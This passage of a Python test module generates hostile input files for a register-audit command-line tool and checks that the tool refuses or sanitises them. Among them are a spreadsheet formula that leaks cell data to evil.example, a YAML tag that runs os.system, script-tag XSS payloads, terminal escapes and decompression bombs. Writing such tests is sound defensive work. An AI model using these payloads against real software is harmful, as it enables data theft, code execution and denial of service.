"""Generators of hostile cases, one per class of attack (issue #11): each builds its files in a
temporary folder and says what the installed tool must do with them."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Iterator

ROOT = Path(__file__).resolve().parents[2]
VALID = ROOT / "tests" / "data" / "valid"


@dataclass
class Case:
    """One run of the tool: ARGS after `register-audit`, the files it READS (which must stay
    unchanged), the exit CODES allowed, words its STDERR must hold, and a CHECK of its own."""

    args: list[str]
    reads: list[Path] = field(default_factory=list)
    codes: tuple[int, ...] = (2,)
    stderr: tuple[str, ...] = ()
    check: Callable[["Run"], None] | None = None
    stdin: bytes | None = None
    feed: tuple[Path, Callable[[], bytes | Iterator[bytes]]] | None = None  # a FIFO and what is written into it
    timeout: float = 60.0
    signal_after: float | None = None  # send SIGTERM this many seconds after the start
    cwd: Path | None = None


@dataclass
class Run:
    """What the process did."""

    case: Case
    tmp: Path
    returncode: int
    stdout: bytes
    stderr: str


Builder = Callable[[Path], Case]
CASES: dict[str, tuple[str, Builder]] = {}  # case id -> (class, builder)
GENERATORS: list[str] = []


def generator(name: str) -> Callable[[Callable[[], Iterator[tuple[str, Builder]]]], None]:
    """Register a class of attack: the decorated function yields (case id, builder) pairs."""

    def register(func: Callable[[], Iterator[tuple[str, Builder]]]) -> None:
        GENERATORS.append(name)
        for case_id, build in func():
            CASES[f"{name}-{case_id}"] = (name, build)

    return register


# --------------------------------------------------------------------------- shared material


def register_csv(tmp: Path, name: str = "register.csv") -> Path:
    target = tmp / name
    shutil.copyfile(VALID / "kz_utf8.csv", target)
    return target


def rules_folder(tmp: Path) -> Path:
    target = tmp / "rules"
    shutil.copytree(ROOT / "rules" / "kz", target)
    return target


def copy(tmp: Path, source: Path, name: str) -> Path:
    target = tmp / name
    shutil.copyfile(source, target)
    return target


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def xlsx(path: Path, sheet_xml: str, *, shared: Iterator[bytes] | None = None) -> Path:
    """A minimal XLSX package written by hand (openpyxl would expand the hostile parts itself)."""
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            "</Types>"))
        package.writestr("_rels/.rels", (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'))
        package.writestr("xl/workbook.xml", (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns} xmlns:r="{rel}"><sheets>'
            '<sheet name="Services" sheetId="1" r:id="rId1"/></sheets></workbook>'))
        package.writestr("xl/_rels/workbook.xml.rels", (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
            f'<Relationship Id="rId2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'))
        package.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0" encoding="UTF-8"?><worksheet {ns}>{sheet_xml}</worksheet>')
        with package.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(f'<?xml version="1.0" encoding="UTF-8"?><sst {ns}>'.encode())
            for chunk in shared or iter([b"<si><t>id</t></si><si><t>name</t></si>"]):
                part.write(chunk)
            part.write(b"</sst>")
    return path


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADER_ROWS = (
    f'<row r="1">{_inline("A1", "id")}{_inline("B1", "name")}</row>'
    f'<row r="2">{_inline("A2", "S1")}{_inline("B2", "Issuing a birth certificate")}</row>'
)


def docx_with_spans(path: Path, span: int, cells: int) -> Path:
    """A DOCX whose register table has rows of CELLS cells, each claiming a gridSpan of SPAN."""
    import docx

    document = docx.Document()
    table = document.add_table(rows=3, cols=2)
    for row, (a, b) in zip(table.rows, [("id", "name"), ("S1", "Issuing a birth certificate"), ("S2", "Pension")]):
        row.cells[0].text, row.cells[1].text = a, b
    document.save(path)
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    xml = parts["word/document.xml"].decode()
    hostile = "".join(f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr><w:p><w:r><w:t>x{i}</w:t></w:r></w:p></w:tc>' for i in range(cells))
    xml = xml.replace("</w:tbl>", f"<w:tr>{hostile}</w:tr>" * 20 + "</w:tbl>", 1)
    parts["word/document.xml"] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return path


# --------------------------------------------------------------------------- 1. outputs onto inputs


def _onto(how: str, target: Path, tmp: Path) -> Path:
    """The path an output names to reach TARGET: itself, a symlink to it, or a hard link."""
    if how == "path":
        return target
    link = tmp / f"{how}-{target.name}"
    if how == "symlink":
        link.symlink_to(target)
    else:
        os.link(target, link)
    return link


@generator("outputs_onto_inputs")
def outputs_onto_inputs() -> Iterator[tuple[str, Builder]]:
    """Every file a command reads is protected from --output and --write-baseline."""

    def register_itself(cmd: list[str]) -> Callable[[Path, str], Case]:
        def build(tmp: Path, how: str) -> Case:
            reg = register_csv(tmp)
            args = [a.replace("REG", str(reg)) for a in cmd] + ([] if "--format" in cmd else ["--format", "json"])
            return Case(args + ["--output", str(_onto(how, reg, tmp))], reads=[reg])
        return build

    def with_file(option: str, make: Callable[[Path], Path], cmd: list[str], out: str = "--output") -> Callable[[Path, str], Case]:
        def build(tmp: Path, how: str) -> Case:
            reg = register_csv(tmp)
            made = make(tmp)
            rule_file = made / "nature.yaml" if made.is_dir() else made
            args = [a.replace("REG", str(reg)) for a in cmd] + [option, str(made), "--format", "json"]
            return Case(args + [out, str(_onto(how, rule_file, tmp))], reads=[reg, rule_file])
        return build

    kinds = {
        "parse-register": register_itself(["parse", "REG", "--format", "csv"]),
        "classify-register": register_itself(["classify", "REG", "--rules", "kz", "--format", "csv"]),
        "audit-register": register_itself(["audit", "REG", "--rules", "kz", "--format", "json"]),
        "explain-register": register_itself(["explain", "REG", "Выдача архивных справок"]),
        "diff-register": register_itself(["diff", "REG", str(VALID / "kz_utf8.csv")]),
        "parse-profile": with_file("--profile", lambda t: copy(t, ROOT / "registers/profiles/generic.yaml", "profile.yaml"), ["parse", "REG"]),
        "classify-rules-folder": with_file("--rules", rules_folder, ["classify", "REG"]),
        "classify-rule-file": with_file("--rules", lambda t: copy(t, ROOT / "rules/kz/nature.yaml", "nature.yaml"), ["classify", "REG"]),
        "audit-budget": with_file("--budget", lambda t: copy(t, ROOT / "rules/budget/kz-2019.yaml", "budget.yaml"), ["audit", "REG", "--rules", "kz"]),
        "audit-catalogue": with_file("--catalogue", lambda t: copy(t, ROOT / "rules/catalogue.yaml", "catalogue.yaml"), ["audit", "REG", "--rules", "kz"]),
        "check-policy": with_file("--policy", lambda t: copy(t, ROOT / "examples/policy.yaml", "policy.yaml"), ["check", "REG", "--rules", "kz"]),
        "check-policy-baseline": with_file("--policy", lambda t: copy(t, ROOT / "examples/policy.yaml", "policy.yaml"), ["check", "REG", "--rules", "kz"], out="--write-baseline"),
        "check-rules-baseline": with_file("--rules", rules_folder, ["check", "REG", "--policy", str(ROOT / "examples/policy.yaml")], out="--write-baseline"),
    }
    # One mechanism protects every input, so links are tried on one input of each kind of file.
    linked = {"parse-register", "parse-profile", "classify-rules-folder", "audit-budget", "check-policy-baseline"}
    for name, build in kinds.items():
        for how in ("path", "symlink", "hardlink") if name in linked else ("path",):
            yield f"{name}-{how}", (lambda tmp, b=build, h=how: _expect_refusal(b(tmp, h)))

    def rules_list(tmp: Path) -> Case:
        folder = rules_folder(tmp)
        return _expect_refusal(Case(["rules", "list", str(folder), "--format", "json", "--output", str(folder / "domain.yaml")], reads=[folder / "domain.yaml"]))

    def baseline_output(tmp: Path) -> Case:
        reg = register_csv(tmp)
        policy = copy(tmp, ROOT / "examples/policy.yaml", "policy.yaml")
        baseline = tmp / "known.json"
        baseline.write_text('{"findings": []}\n', encoding="utf-8")
        return _expect_refusal(Case(["check", str(reg), "--rules", "kz", "--policy", str(policy), "--baseline", str(baseline),
                                     "--format", "json", "--output", str(_onto("symlink", baseline, tmp))], reads=[reg, policy, baseline]))

    def bundled_register(tmp: Path) -> Case:
        # The file the installed tool reads: after a non-editable install (as CI does) that is the
        # copy inside the package, not the checkout's, so ask the installed package from outside it.
        where = subprocess.run([sys.executable, "-c", "from register_audit.load.resources import bundled; print(bundled('registers'))"],
                               cwd=tmp, capture_output=True, text=True, check=True).stdout.strip()
        services = Path(where) / "kz" / "services.csv"
        return _expect_refusal(Case(["explain", "kz", "запись на прием к врачу", "--format", "json", "--output", str(_onto("symlink", services, tmp))], reads=[services]))

    yield "rules-list-folder", rules_list
    yield "check-baseline-output", baseline_output
    yield "explain-bundled-register", bundled_register


def _expect_refusal(case: Case) -> Case:
    case.codes = (2,)
    case.stderr = ("would overwrite the input",)
    return case


# --------------------------------------------------------------------------- 2a. devices and pipes


@generator("devices_and_pipes")
def devices_and_pipes() -> Iterator[tuple[str, Builder]]:
    """Devices are refused; a pipe or `-` is read once, within a bound."""
    options = {
        "register": lambda dev: ["parse", dev],
        "rules": lambda dev: ["classify", str(VALID / "kz_utf8.csv"), "--rules", dev],
        "policy": lambda dev: ["check", str(VALID / "kz_utf8.csv"), "--policy", dev],
        "budget": lambda dev: ["audit", str(VALID / "kz_utf8.csv"), "--rules", "kz", "--budget", dev],
        "catalogue": lambda dev: ["audit", str(VALID / "kz_utf8.csv"), "--rules", "kz", "--catalogue", dev],
        "baseline": lambda dev: ["check", str(VALID / "kz_utf8.csv"), "--rules", "kz", "--policy", str(ROOT / "examples/policy.yaml"), "--baseline", dev],
        "profile": lambda dev: ["parse", str(VALID / "kz_utf8.csv"), "--profile", dev],
    }
    for name, make in options.items():
        yield f"dev-zero-{name}", (lambda tmp, m=make: Case(m("/dev/zero")))

        def endless_fifo(tmp: Path, m=make) -> Case:
            fifo = tmp / "endless.fifo"
            os.mkfifo(fifo)
            return Case(m(str(fifo)), feed=(fifo, _zeros))

        yield f"endless-fifo-{name}", endless_fifo

    def device_in_rules_folder(tmp: Path) -> Case:
        folder = rules_folder(tmp)
        (folder / "nature.yaml").unlink()
        (folder / "nature.yaml").symlink_to("/dev/zero")
        return Case(["classify", str(VALID / "kz_utf8.csv"), "--rules", str(folder)], stderr=("device",))

    def fifo_register(tmp: Path) -> Case:
        fifo = tmp / "register.fifo"
        os.mkfifo(fifo)
        data = (VALID / "kz_utf8.csv").read_bytes()
        return Case(["parse", str(fifo), "--format", "json"], codes=(0,), feed=(fifo, lambda: data),
                    check=lambda run: _assert_services(run, 8))

    def stdin_register(tmp: Path) -> Case:
        return Case(["parse", "-", "--format", "json"], codes=(0,), stdin=(VALID / "kz_utf8.csv").read_bytes(),
                    check=lambda run: _assert_services(run, 8))

    def stdin_json(tmp: Path) -> Case:
        return Case(["parse", "-", "--format", "json"], codes=(0,), stdin=(VALID / "kz.json").read_bytes(),
                    check=lambda run: _assert_services(run, 1))

    yield "device-in-rules-folder", device_in_rules_folder
    yield "fifo-register-read-once", fifo_register
    yield "stdin-register", stdin_register
    yield "stdin-json-register", stdin_json


def _zeros() -> Iterator[bytes]:
    chunk = b"\0" * (1 << 20)
    while True:
        yield chunk


def _assert_services(run: Run, at_least: int) -> None:
    services = json.loads(run.stdout)["services"]
    assert len(services) >= at_least, f"only {len(services)} services"


# --------------------------------------------------------------------------- 2b. bombs


@generator("bombs")
def bombs() -> Iterator[tuple[str, Builder]]:
    """Files small on disk whose expansion would take minutes or gigabytes."""

    def merged_huge(tmp: Path) -> Case:
        merges = "".join(f'<mergeCell ref="A{3 + i}:XFD{3 + i}"/>' for i in range(2000))
        sheet = f"<sheetData>{HEADER_ROWS}</sheetData><mergeCells>{merges}<mergeCell ref=\"A3:XFD1048576\"/></mergeCells>"
        return Case(["parse", str(xlsx(tmp / "merged.xlsx", sheet))], codes=(0, 2))

    def claimed_dimension(tmp: Path) -> Case:
        sheet = f'<dimension ref="A1:XFD1048576"/><sheetData>{HEADER_ROWS}<row r="1048576">{_inline("XFD1048576", "corner")}</row></sheetData>'
        return Case(["parse", str(xlsx(tmp / "dimension.xlsx", sheet))], codes=(0, 2))

    def shared_strings_bomb(tmp: Path) -> Case:
        def strings() -> Iterator[bytes]:
            yield b"<si><t>id</t></si><si><t>name</t></si>"
            block = b"<si><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></si>" * 16384
            for _ in range(300 * 1024 * 1024 // len(block)):
                yield block
        sheet = '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row></sheetData>'
        return Case(["parse", str(xlsx(tmp / "bomb.xlsx", sheet, shared=strings()))], stderr=("MiB",))

    def html_spans(tmp: Path) -> Case:
        cells = "".join(f'<td colspan="1000" rowspan="65534">x{i}</td>' for i in range(60))
        rows = "".join(f"<tr>{cells}</tr>" for _ in range(200))
        page = tmp / "spans.html"
        page.write_text(f"<html><body><table><tr><th>id</th><th>name</th></tr>{rows}</table></body></html>", encoding="utf-8")
        return Case(["parse", str(page)])

    def html_rowspans(tmp: Path) -> Case:
        rows = "".join(f'<tr><td rowspan="65534">S{i}</td><td rowspan="0">name {i}</td></tr>' for i in range(3000))
        page = tmp / "rowspans.html"
        page.write_text(f"<html><body><table><tr><th>id</th><th>name</th></tr>{rows}</table></body></html>", encoding="utf-8")
        return Case(["parse", str(page)], codes=(0, 2))

    def docx_spans(tmp: Path) -> Case:
        return Case(["parse", str(docx_with_spans(tmp / "spans.docx", span=10**9, cells=200))])

    def json_sparse(tmp: Path) -> Case:
        path = tmp / "sparse.json"
        path.write_text(json.dumps([{"name": f"service {i}", f"key{i}": "v"} for i in range(100_000)]), encoding="utf-8")
        return Case(["parse", str(path)], stderr=("keys",))

    def jsonl_sparse(tmp: Path) -> Case:
        path = tmp / "sparse.jsonl"
        path.write_text("".join(json.dumps({"name": f"service {i}", f"key{i}": "v"}) + "\n" for i in range(100_000)), encoding="utf-8")
        return Case(["audit", str(path), "--rules", "en"], stderr=("keys",))

    def diff_shared_words(tmp: Path) -> Case:
        import random

        rng = random.Random(11)
        letters = "abcdefghijklmnopqrstuvwxyz"
        words = ["".join(rng.choice(letters) for _ in range(8)) for _ in range(30_000)]
        common = "application for the registration of the certificate of"
        old = write_csv(tmp / "old.csv", ["name"], [[f"{common} {w}"] for w in words])
        new = write_csv(tmp / "new.csv", ["name"], [[f"{common} {w[:-1]}x"] for w in words])
        return Case(["diff", str(old), str(new), "--match", "name", "--rules", "en", "--format", "json"], codes=(0,))

    yield "xlsx-merged-ranges", merged_huge
    yield "xlsx-claimed-dimension", claimed_dimension
    yield "xlsx-shared-strings-zip-bomb", shared_strings_bomb
    yield "html-colspan-rowspan", html_spans
    yield "html-rowspans", html_rowspans
    yield "docx-gridspan", docx_spans
    yield "json-sparse-keys", json_sparse
    yield "jsonl-sparse-keys", jsonl_sparse
    yield "diff-names-sharing-words", diff_shared_words


# --------------------------------------------------------------------------- 3. tracebacks


@generator("tracebacks")
def tracebacks() -> Iterator[tuple[str, Builder]]:
    """Inputs that used to end in a traceback: each must give one sentence and exit 2."""
    reg = str(VALID / "kz_utf8.csv")

    def yaml_file(name: str, text: str | bytes) -> Callable[[Path], Path]:
        def make(tmp: Path) -> Path:
            path = tmp / name
            path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
            return path
        return make

    list_key = "? [a, b]\n: 1\nid: x\n"
    map_key = "? {a: 1}\n: 1\nid: x\n"
    deep = "a: " + "[" * 5000 + "]" * 5000 + "\n"
    files = {
        "rules-list-key": ("rules.yaml", list_key, lambda p: ["classify", reg, "--rules", p]),
        "policy-map-key": ("policy.yaml", map_key, lambda p: ["check", reg, "--rules", "kz", "--policy", p]),
        "catalogue-list-key": ("catalogue.yaml", list_key, lambda p: ["audit", reg, "--rules", "kz", "--catalogue", p]),
        "budget-map-key": ("budget.yaml", map_key, lambda p: ["audit", reg, "--rules", "kz", "--budget", p]),
        "profile-list-key": ("profile.yaml", list_key, lambda p: ["parse", reg, "--profile", p]),
        "profile-not-utf8": ("profile.yaml", "profile: x\nfields:\n  name: [наименование]\n".encode("cp1251"), lambda p: ["parse", reg, "--profile", p]),
        "profile-deep": ("profile.yaml", deep, lambda p: ["parse", reg, "--profile", p]),
        "profile-python-tag": ("profile.yaml", "profile: !!python/object/apply:os.system ['echo pwned']\n", lambda p: ["parse", reg, "--profile", p]),
        "rules-deep": ("rules.yaml", deep, lambda p: ["classify", reg, "--rules", p]),
        "baseline-deep": ("known.json", "[" * 100_000 + "]" * 100_000, lambda p: ["check", reg, "--rules", "kz", "--policy", str(ROOT / "examples/policy.yaml"), "--baseline", p]),
        "baseline-huge-number": ("known.json", '{"findings": [' + "9" * 100_000 + "]}", lambda p: ["check", reg, "--rules", "kz", "--policy", str(ROOT / "examples/policy.yaml"), "--baseline", p]),
        "budget-csv-huge-field": ("budget.csv", "cofog,year,level,source,amount\n07,2019,state,\"" + "x" * 200_000 + "\",5\n", lambda p: ["audit", reg, "--rules", "kz", "--budget", p]),
    }
    for name, (file_name, text, command) in files.items():
        def build(tmp: Path, f=file_name, t=text, c=command) -> Case:
            path = yaml_file(f, t)(tmp)
            return Case(c(str(path)), reads=[path], stderr=(path.name,))
        yield name, build

    def surrogates(fmt: str) -> Builder:
        def build(tmp: Path) -> Case:
            path = tmp / "surrogates.json"
            path.write_text('[{"id": "1", "name": "Issuing \\ud800 a permit", "note\\udfff": "x\\udc00"}, {"id": "2", "name": "Pension"}]', encoding="utf-8")
            command = ["parse", str(path), "--format", fmt] if fmt != "classify-csv" else ["classify", str(path), "--rules", "en", "--format", "csv"]
            return Case(command, reads=[path], codes=(0,), check=lambda run: run.stdout.decode("utf-8"))
        return build

    for fmt in ("json", "csv", "jsonl", "table", "classify-csv"):
        yield f"lone-surrogates-{fmt}", surrogates(fmt)

    def markup_name(tmp: Path) -> Case:
        path = write_csv(tmp / "markup.csv", ["id", "name"], [["1", "Issuing [/] a [bold]permit[/bold] [link=http://x]"], ["2", "Pension [/]"]])
        return Case(["classify", str(path), "--rules", "en"], reads=[path], codes=(0,),
                    check=lambda run: _assert_in(run.stdout.decode(), "[/]"))

    def output_into_proc(tmp: Path) -> Case:
        return Case(["parse", reg, "--format", "json", "--output", "/proc/register-audit.json"], stderr=("cannot",))

    def output_into_missing_folder(tmp: Path) -> Case:
        return Case(["parse", reg, "--format", "json", "--output", str(tmp / "no" / "such" / "out.json")], stderr=("does not exist",))

    def output_unwritable(tmp: Path) -> Case:
        return Case(["parse", reg, "--format", "json", "--output", "/dev/full"], stderr=("device",))

    def newline_in_file_name(tmp: Path) -> Case:
        path = tmp / "bad\nname.csv"
        path.write_text("id,name\n1,ok\n2,\"x,y\",z\n", encoding="utf-8")
        return Case(["parse", str(path)], reads=[path], stderr=("bad\\nname.csv",))

    def newline_in_missing_name(tmp: Path) -> Case:
        return Case(["parse", str(tmp / "missing\nfile.csv")], stderr=("missing\\nfile.csv",))

    yield "rich-markup-in-names", markup_name
    yield "output-into-proc", output_into_proc
    yield "output-into-missing-folder", output_into_missing_folder
    yield "output-onto-a-device", output_unwritable
    yield "newline-in-file-name", newline_in_file_name
    yield "newline-in-missing-file-name", newline_in_missing_name


def _assert_in(text: str, word: str) -> None:
    assert word in text, f"{word!r} not in output"


# --------------------------------------------------------------------------- 4. injection


@generator("injection")
def injection() -> Iterator[tuple[str, Builder]]:
    """Names, titles and file names that would run as formulas, TeX, HTML or terminal codes."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    names = [["1", formula, "+SUM(1,2)"], ["2", "-2+3", "@cmd"], ["3", "\tTabbed", "-5"], ["4", "\rReturn", "Pension"]]

    def register(tmp: Path) -> Path:
        return write_csv(tmp / "formulas.csv", ["id", "name", "provider"], names)

    def exported(command: list[str]) -> Builder:
        def build(tmp: Path) -> Case:
            path = register(tmp)
            return Case([c.replace("REG", str(path)) for c in command], reads=[path], codes=(0,), check=_no_formula_cells)
        return build

    yield "csv-parse", exported(["parse", "REG", "--format", "csv"])
    yield "csv-classify", exported(["classify", "REG", "--rules", "en", "--format", "csv"])
    yield "csv-audit", exported(["audit", "REG", "--rules", "en", "--format", "csv"])

    def csv_diff(tmp: Path) -> Case:
        old = write_csv(tmp / "old.csv", ["id", "name"], [["1", "Pension"]])
        new = write_csv(tmp / "new.csv", ["id", "name"], [["1", "Pension"], ["2", formula]])
        return Case(["diff", str(old), str(new), "--format", "csv"], reads=[old, new], codes=(0,), check=_no_formula_cells)

    def raw_csv(tmp: Path) -> Case:
        path = register(tmp)
        return Case(["--raw-csv", "parse", str(path), "--format", "csv"], reads=[path], codes=(0,),
                    check=lambda run: _assert_in(run.stdout.decode(), formula.replace('"', '""')))

    def mathtext(tmp: Path) -> Case:
        path = write_csv(tmp / "$\\foo$ register.csv", ["id", "name"], [["1", "Primary health care $\\frac{a}{$"], ["2", "Pension $x^2$ {\\bad"]])
        out = tmp / "report.html"
        return Case(["audit", str(path), "--rules", "en", "--format", "html", "--output", str(out)], reads=[path], codes=(0,),
                    check=lambda run: _assert_in(out.read_text(encoding="utf-8"), "<svg"))

    def markdown_html(tmp: Path) -> Case:
        path = write_csv(tmp / "html.csv", ["id", "name"], [["1", "Old-age pension <script>alert(1)</script>"], ["2", 'Kindergarten place <img src=x onerror="alert(2)">']])
        return Case(["audit", str(path), "--rules", "en", "--format", "markdown"], reads=[path], codes=(0,), check=_no_html_tags)

    def markdown_diff_html(tmp: Path) -> Case:
        old = write_csv(tmp / "old.csv", ["id", "name"], [["1", "Pension"]])
        new = write_csv(tmp / "new.csv", ["id", "name"], [["1", "Pension"], ["2", "<script>alert(1)</script>"]])
        return Case(["diff", str(old), str(new), "--format", "markdown"], reads=[old, new], codes=(0,), check=_no_html_tags)

    def terminal_escapes(tmp: Path) -> Case:
        path = write_csv(tmp / "esc.csv", ["id", "name"], [["1", "Pension\x1b]0;owned\x07\x1b[2J"], ["2", "Care\x1b[31m red"]])
        return Case(["classify", str(path), "--rules", "en"], reads=[path], codes=(0,),
                    check=lambda run: _assert_no_controls(run.stdout))

    def junit_controls(tmp: Path) -> Case:
        path = write_csv(tmp / "ctl.csv", ["id", "name"], [["1", "Pension\x01\x02\x1b\x0b"], ["2", "Care"]])
        policy = tmp / "policy.yaml"
        policy.write_text("version: 1\nchecks:\n  - id: unclassified\n    measure: unclassified_share\n    max: 0.0\n    message: Every service is classified.\n", encoding="utf-8")
        return Case(["check", str(path), "--rules", "en", "--policy", str(policy), "--format", "junit"], reads=[path, policy],
                    codes=(0, 1), check=_well_formed_xml)

    yield "csv-diff", csv_diff
    yield "raw-csv-option", raw_csv
    yield "matplotlib-mathtext", mathtext
    yield "markdown-html-audit", markdown_html
    yield "markdown-html-diff", markdown_diff_html
    yield "terminal-escapes", terminal_escapes
    yield "junit-control-characters", junit_controls


def _no_formula_cells(run: Run) -> None:
    rows = list(csv.reader(io.StringIO(run.stdout.decode("utf-8"), newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()), \
                f"formula-like cell {cell!r}"
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row), "the formula cell is missing"


def _no_html_tags(run: Run) -> None:
    text = run.stdout.decode("utf-8")
    assert "<script" not in text and "<img" not in text, text[:500]
    assert "&lt;script&gt;" in text or "&lt;img" in text


def _assert_no_controls(data: bytes) -> None:
    text = data.decode("utf-8")
    assert not any(ch in text for ch in "\x1b\x07"), repr(text[:300])


def _well_formed_xml(run: Run) -> None:
    import xml.dom.minidom

    xml.dom.minidom.parseString(run.stdout)


# --------------------------------------------------------------------------- 5. silent data loss


@generator("data_loss")
def data_loss() -> Iterator[tuple[str, Builder]]:
    """Files that used to be read wrongly without a word, or with a misleading one."""

    def text_case(name: str, data: bytes, words: tuple[str, ...], args: list[str] | None = None) -> Builder:
        def build(tmp: Path) -> Case:
            path = tmp / name
            path.write_bytes(data)
            return Case((args or ["parse"]) + [str(path)], reads=[path], stderr=words)
        return build

    csv_text = "id,name\n1,Pension\n2,Child benefit\n"
    yield "unterminated-quote", text_case("quote.csv", b'id,name\n1,Pension\n2,"Child benefit\n3,Care\n4,School\n', ("row 3", "never closed"))
    yield "unterminated-quote-semicolon", text_case("quote.csv", b'id;name\n1;Pension\n2;Care\n3;"School\n4;Water\n', ("row 4", "never closed"))
    yield "utf32-bom", text_case("utf32.csv", csv_text.encode("utf-32"), ("UTF-32",))
    yield "utf32-no-bom", text_case("utf32.csv", csv_text.encode("utf-32-le"), ("UTF-32",))
    cyrillic = ["id;name"] + [f"{i};Выдача справки о регистрации номер {i}" for i in range(1, 20)]
    mixed = "\r\n".join(cyrillic[:8]).encode("cp1251") + "\r\n8;Выдача разрешения\r\n".encode("utf-8") + "\r\n".join(cyrillic[9:]).encode("cp1251")
    yield "cp1251-with-a-utf8-line", text_case("mixed.csv", mixed, ("mixes two encodings", "line 9"))
    yield "pdf-named-csv", text_case("register.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", ("PDF",))
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptionInfo".encode("utf-16-le") + b"\0" * 2048
    yield "password-protected-xlsx", text_case("locked.xlsx", ole, ("password-protected",))

    def repeated_headers(tmp: Path) -> Case:
        path = write_csv(tmp / "repeated.csv", ["id", "name", "note", "note"], [["1", "Pension", "first", "second"]])
        def check(run: Run) -> None:
            extra = json.loads(run.stdout)["services"][0]["extra"]
            assert sorted(extra.values()) == ["first", "second"], extra
        return Case(["parse", str(path), "--format", "json"], reads=[path], codes=(0,), check=check)

    def pipe_read_once(tmp: Path) -> Case:
        fifo = tmp / "cat.fifo"
        os.mkfifo(fifo)
        data = (VALID / "kz_utf8.csv").read_bytes()
        return Case(["parse", str(fifo), "--format", "json"], codes=(0,), feed=(fifo, lambda: data), check=lambda run: _assert_services(run, 8))

    def openpyxl_warning(tmp: Path) -> Case:
        from openpyxl import Workbook
        from openpyxl.worksheet.datavalidation import DataValidation

        book = Workbook()
        sheet = book.active
        sheet.append(["id", "name"])
        sheet.append(["1", "Pension"])
        validation = DataValidation(type="list", formula1='"a,b"')
        sheet.add_data_validation(validation)
        validation.add("A2")
        path = tmp / "warns.xlsx"
        book.save(path)
        # A part openpyxl does not read, so it warns: an extension list on the worksheet.
        with zipfile.ZipFile(path) as package:
            parts = {name: package.read(name) for name in package.namelist()}
        sheet_xml = parts["xl/worksheets/sheet1.xml"].decode()
        parts["xl/worksheets/sheet1.xml"] = sheet_xml.replace("</worksheet>", '<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><x14:conditionalFormattings xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"/></ext></extLst></worksheet>').encode()
        with zipfile.ZipFile(path, "w") as package:
            for name, data in parts.items():
                package.writestr(name, data)
        return Case(["parse", str(path), "--format", "json"], reads=[path], codes=(0,),
                    check=lambda run: _assert_quiet(run))

    def diff_key_missing(tmp: Path) -> Case:
        old = write_csv(tmp / "old.csv", ["id", "name"], [["1", "Pension"]])
        new = write_csv(tmp / "new.csv", ["id", "name"], [["1", "Pension"]])
        return Case(["diff", str(old), str(new), "--key", "nosuchcol"], reads=[old, new], stderr=("nosuchcol",))

    yield "repeated-unmapped-headers", repeated_headers
    yield "process-substitution-read-once", pipe_read_once
    yield "openpyxl-warning-silenced", openpyxl_warning
    yield "diff-key-no-such-column", diff_key_missing


def _assert_quiet(run: Run) -> None:
    assert "Warning" not in run.stderr and "openpyxl" not in run.stderr, run.stderr


# --------------------------------------------------------------------------- 6. writing outputs


@generator("writing")
def writing() -> Iterator[tuple[str, Builder]]:
    """Outputs replace files atomically, keep their permissions, and leave nothing behind."""

    def keeps_mode(tmp: Path) -> Case:
        out = tmp / "private.json"
        out.write_text("{}", encoding="utf-8")
        out.chmod(0o600)
        def check(run: Run) -> None:
            assert (out.stat().st_mode & 0o777) == 0o600, oct(out.stat().st_mode)
            assert json.loads(out.read_text(encoding="utf-8"))["services"]
        return Case(["parse", str(VALID / "kz_utf8.csv"), "--format", "json", "--output", str(out)], codes=(0,), check=check)

    def sigterm(tmp: Path) -> Case:
        big = write_csv(tmp / "big.csv", ["id", "name"], [[str(i), f"Issuing certificate number {i} for a building plot"] for i in range(150_000)])
